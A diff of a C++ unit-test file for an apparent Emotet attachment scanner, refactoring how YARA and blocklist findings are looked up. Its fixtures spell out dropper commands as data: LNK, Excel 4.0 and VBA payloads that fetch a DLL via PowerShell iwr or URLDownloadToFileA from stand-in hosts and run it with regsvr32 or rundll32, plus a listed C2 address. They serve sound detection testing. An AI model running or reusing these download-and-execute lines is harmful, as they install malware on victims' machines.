@@ -14,12 +14,12 @@
 #include "emogate/scanner.h"
 #include "unit/test_files.h"
 #include "unit/emotet_fixtures.h"
+#include "unit/findings.h"
 #include "unit/ovba_builder.h"
 
 using namespace emogate;
 namespace fs = std::filesystem;
-using emogate::testutil::TempDir;
-using emogate::testutil::slurp;
+using namespace emogate::test;
 
 namespace {
 
@@ -45,20 +45,14 @@ Config shipped_rules_config() {
   return c;
 }
 
-const Finding* find(const Report& r, FindingType t, const std::string& needle) {
-  for (const auto& f : r.findings)
-    if (f.type == t && f.detail.find(needle) != std::string::npos) return &f;
-  return nullptr;
-}
-
 TEST(YaraEngine, LnkDropperInsideZipIsFlaggedByShippedRules) {
   TempDir d;
-  auto lnk = emotet_fixtures::lnk_with_arguments(
+  auto lnk = lnk_with_arguments(
       "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form 04.25.2022, US.lnk\" > \"%tmp%\\YEeWXf.vbs\" & \"%tmp%\\YEeWXf.vbs\"");
   Scanner s(shipped_rules_config());
   EXPECT_TRUE(s.warnings().empty());
   Report r = s.scan_file(make_zip(d, "Form 04.25.2022, US.lnk", lnk), "Form.zip");
-  const Finding* f = find(r, FindingType::yara, "Emotet_LNK_Findstr_Appended_Script_2022");
+  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_LNK_Findstr_Appended_Script_2022"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->path, "Form.zip/Form 04.25.2022, US.lnk");
   EXPECT_EQ(f->verdict, Verdict::malicious);
@@ -71,11 +65,11 @@ TEST(YaraEngine, XlmDropperWorkbookInsideZipIsFlagged) {
   // The 2022 Excel 4.0 dropper shape; once the encrypted-ZIP extractor
   // hands over the decrypted member the same rule applies to it.
   TempDir d;
-  auto xls = emotet_fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
+  auto xls = biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                              "..\\oxnv1.ooccxx", "regsvr32.exe -s ..\\oxnv1.ooccxx"});
   Scanner s(shipped_rules_config());
   Report r = s.scan_file(make_zip(d, "INV 2022-03.xls", xls), "INV.zip");
-  const Finding* f = find(r, FindingType::yara, "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022");
+  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->path, "INV.zip/INV 2022-03.xls");
   EXPECT_EQ(r.verdict, Verdict::malicious);
@@ -85,19 +79,19 @@ TEST(YaraEngine, XlmDropperInsideEncryptedZipIsFlagged) {
   // The campaign's delivery: password "infected"-style ZIP, password in the
   // body. Needs the encrypted-archive extractor; skipped where it is absent.
   TempDir d;
-  auto xls = emotet_fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
+  auto xls = biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                              "C:\\Windows\\SysWow64\\rundll32.exe ..\\enu.ocx,DllRegisterServer"});
   d.write("local/enc.yar", "rule From_Encrypted_Member { condition: from_encrypted and type == \"ole2\" }\n");
   Config c = shipped_rules_config();
   c.rules.paths.push_back((d.path / "local").string());
   Scanner s(c);
   Report r = s.scan_file(make_zip(d, "INV-2022.xls", xls, "infected"), "INV.zip");
-  if (!find(r, FindingType::archive_decrypted, ""))
+  if (!find_finding(r, FindingType::archive_decrypted))
     GTEST_SKIP() << "this build does not decrypt ZIP members yet";
-  const Finding* f = find(r, FindingType::yara, "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022");
+  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->verdict, Verdict::malicious);
-  EXPECT_NE(find(r, FindingType::yara, "From_Encrypted_Member"), nullptr);
+  EXPECT_NE(find_finding(r, FindingType::yara, {.detail = "From_Encrypted_Member"}), nullptr);
   EXPECT_EQ(r.verdict, Verdict::malicious);
 }
 
@@ -106,13 +100,13 @@ TEST(YaraEngine, ZippedPaddedDocumentIsFlagged) {
   // small, the document huge). The ratio limit cuts it short; the padding
   // rule still sees zeros beyond what the document's FAT addresses.
   TempDir d;
-  std::string doc = emotet_fixtures::cfb_one_stream("WordDocument", std::string(9000, 'w'));
+  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
   doc.resize(64u << 20, '\0');
   std::string zip = make_zip(d, "Invoice.doc", doc);
   doc.clear();
   Scanner s(shipped_rules_config());
   Report r = s.scan_file(zip, "Invoice.zip");
-  const Finding* f = find(r, FindingType::yara, "Emotet_Padded_OLE2_Document_2023");
+  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_Padded_OLE2_Document_2023"});
   ASSERT_NE(f, nullptr) << findings_summary(r);
   EXPECT_EQ(f->path, "Invoice.zip/Invoice.doc");
   EXPECT_EQ(f->verdict, Verdict::suspicious);
@@ -124,14 +118,14 @@ TEST(YaraEngine, ReloadPicksUpNewRulesAndKeepsOldSetOnFailure) {
   Config c;
   c.rules.paths = {(d.path / "rules").string()};
   Scanner s(c);
-  EXPECT_EQ(find(s.scan_file("new-marker", "x.bin"), FindingType::yara, "New_Rule"), nullptr);
+  EXPECT_EQ(find_finding(s.scan_file("new-marker", "x.bin"), FindingType::yara, {.detail = "New_Rule"}), nullptr);
 
   d.write("rules/b.yar",
           "rule New_Rule { meta: verdict = \"suspicious\" strings: $a = \"new-marker\" condition: $a }\n");
   s.reload(c);
   const Finding* f = nullptr;
   Report r = s.scan_file("new-marker", "x.bin");
-  f = find(r, FindingType::yara, "New_Rule");
+  f = find_finding(r, FindingType::yara, {.detail = "New_Rule"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->verdict, Verdict::suspicious);
 
@@ -144,14 +138,14 @@ TEST(YaraEngine, ReloadPicksUpNewRulesAndKeepsOldSetOnFailure) {
   } catch (const std::exception& e) {
     EXPECT_NE(std::string(e.what()).find(bad + ":2: "), std::string::npos) << e.what();
   }
-  EXPECT_NE(find(s.scan_file("new-marker", "x.bin"), FindingType::yara, "New_Rule"), nullptr);
+  EXPECT_NE(find_finding(s.scan_file("new-marker", "x.bin"), FindingType::yara, {.detail = "New_Rule"}), nullptr);
 
   // Non-strict: the broken file is skipped and named in the warnings.
   c.rules.strict = false;
   s.reload(c);
   ASSERT_EQ(s.warnings().size(), 1u);
   EXPECT_NE(s.warnings()[0].find(bad + ":2: "), std::string::npos) << s.warnings()[0];
-  EXPECT_NE(find(s.scan_file("old-marker", "x.bin"), FindingType::yara, "Old_Rule"), nullptr);
+  EXPECT_NE(find_finding(s.scan_file("old-marker", "x.bin"), FindingType::yara, {.detail = "Old_Rule"}), nullptr);
 }
 
 TEST(YaraEngine, RuleSeesExternalVariablesOfZipMembers) {
@@ -163,7 +157,7 @@ TEST(YaraEngine, RuleSeesExternalVariablesOfZipMembers) {
   c.rules.paths = {(d.path / "rules").string()};
   Scanner s(c);
   Report r = s.scan_file(make_zip(d, "note.txt", "hello"), "m.zip");
-  const Finding* f = find(r, FindingType::yara, "Member_Context");
+  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Member_Context"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->path, "m.zip/note.txt");
 }
@@ -205,16 +199,16 @@ TEST(YaraEngine, UrlhausUrlSplitInVbaStyleStringIsFlagged) {
   Report r = s.scan_message(message(
       "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"htt\" & \"p://shop.exa\" + \"mple.com/wp-admin/Zx1/\", False\r\n"
       "c2 51.75.33.127 and http://benign.example/ and http://shop.example.com/other/"));
-  const Finding* f = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  const Finding* f = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->verdict, Verdict::malicious);
   EXPECT_NE(f->detail.find("emotet,epoch4,doc"), std::string::npos);
   EXPECT_NE(f->detail.find("2022-03-15"), std::string::npos);
-  const Finding* host = find(r, FindingType::url_blocklisted, "http://shop.example.com/other/: host listed");
+  const Finding* host = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/other/: host listed"});
   ASSERT_NE(host, nullptr);
   EXPECT_EQ(host->verdict, Verdict::suspicious);
-  EXPECT_NE(find(r, FindingType::url_blocklisted, "51.75.33.127 listed by Feodo Tracker"), nullptr);
-  EXPECT_EQ(find(r, FindingType::url_blocklisted, "benign.example"), nullptr);
+  EXPECT_NE(find_finding(r, FindingType::url_blocklisted, {.detail = "51.75.33.127 listed by Feodo Tracker"}), nullptr);
+  EXPECT_EQ(find_finding(r, FindingType::url_blocklisted, {.detail = "benign.example"}), nullptr);
   for (const char* u : {"http://shop.example.com/wp-admin/Zx1/", "http://benign.example/",
                         "http://shop.example.com/other/"})
     EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), u), r.urls.end()) << u;
@@ -227,15 +221,15 @@ TEST(YaraEngine, UrlhausUrlInShortcutArgumentsIsFlagged) {
   c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
   c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
   Scanner s(c);
-  auto lnk = emotet_fixtures::lnk_with_arguments(
+  auto lnk = lnk_with_arguments(
       "-w hidden -c \"foreach($u in 'http://shop.example.com/wp-admin/Zx1/','https://b.example/y/')"
       "{try{iwr $u -OutFile $env:TEMP\\q.dll;regsvr32 /s $env:TEMP\\q.dll;break}catch{}}\"",
       {}, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
   Report r = s.scan_file(make_zip(d, "Form.lnk", lnk), "Form.zip");
-  const Finding* f = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  const Finding* f = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->path, "Form.zip/Form.lnk");
-  EXPECT_NE(find(r, FindingType::yara, "Emotet_LNK_PowerShell_Downloader_2022"), nullptr);
+  EXPECT_NE(find_finding(r, FindingType::yara, {.detail = "Emotet_LNK_PowerShell_Downloader_2022"}), nullptr);
   EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), "https://b.example/y/"), r.urls.end());
 }
 
@@ -267,10 +261,10 @@ TEST(YaraEngine, WordVbaDropperFlaggedThroughDecompressedSource) {
                              "  p.Create Replace(\"poXXwershell -w hidden -c iwr \", \"XX\", \"\") & u, Null, st, pid\r\n"
                              "End Sub\r\n"),
                          "invoice.doc");
-  const Finding* y = find(r, FindingType::yara, "Emotet_VBA_WMI_Hidden_Process_2019");
+  const Finding* y = find_finding(r, FindingType::yara, {.detail = "Emotet_VBA_WMI_Hidden_Process_2019"});
   ASSERT_NE(y, nullptr) << findings_summary(r);
   EXPECT_EQ(y->verdict, Verdict::malicious);
-  const Finding* u = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  const Finding* u = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
   ASSERT_NE(u, nullptr) << findings_summary(r);
   EXPECT_EQ(u->path, y->path);  // both on the decompressed module source
 }
